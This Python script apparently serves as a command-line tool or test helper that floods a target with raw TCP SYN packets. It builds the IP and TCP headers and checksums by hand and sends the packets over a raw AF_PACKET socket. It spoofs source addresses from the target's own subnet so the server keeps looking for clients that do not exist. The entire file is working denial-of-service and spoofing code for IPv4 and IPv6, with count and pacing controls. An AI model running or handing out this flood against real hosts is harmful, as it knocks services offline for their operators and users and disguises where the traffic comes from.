"""SYNs of many clients that nobody is: `flood ADDRESS HARDWARE-ADDRESS PORT COUNT`, from this host's network."""

import ipaddress
import socket
import struct
import sys
import time

# What Linux sends: MSS, SACK permitted, timestamps, window scale.
OPTIONS = bytes([2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7])
# So many, and then a pause in which other clients are heard.
BURST = 32


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(source, destination, port, number):
    client_port = 1024 + number % 60000
    segment = struct.pack("!HHIIBBHHH", client_port, port, number * 2654435761 % 2**32, 0, 0xa0, 2, 64240, 0, 0) + OPTIONS
    addresses = source.packed + destination.packed
    summed = checksum(addresses + struct.pack("!HH", 6, len(segment)) + segment)
    segment = segment[:16] + struct.pack("!H", summed) + segment[18:]
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(segment), 6, 64) + addresses + segment
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), number % 65536, 0x4000, 64, 6, 0) + addresses
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + segment


def flood(address, hardware_address, port, count):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind(("eth0", 0))
    destination = ipaddress.ip_address(address)
    link = bytes.fromhex(hardware_address.replace(":", "")) + raw.getsockname()[4]
    link += struct.pack("!H", 0x86dd if destination.version == 6 else 0x800)
    # Neighbours of the server's, so that it looks for each of them and finds nobody.
    network = int(destination) & ~255
    for number in range(int(count)):
        source = ipaddress.ip_address(network + 100 + number % 100)
        raw.send(link + syn(source, destination, int(port), number))
        if number % BURST == 0:
            time.sleep(0.001)
    print("sent", flush=True)


globals()[sys.argv[1]](*sys.argv[2:])
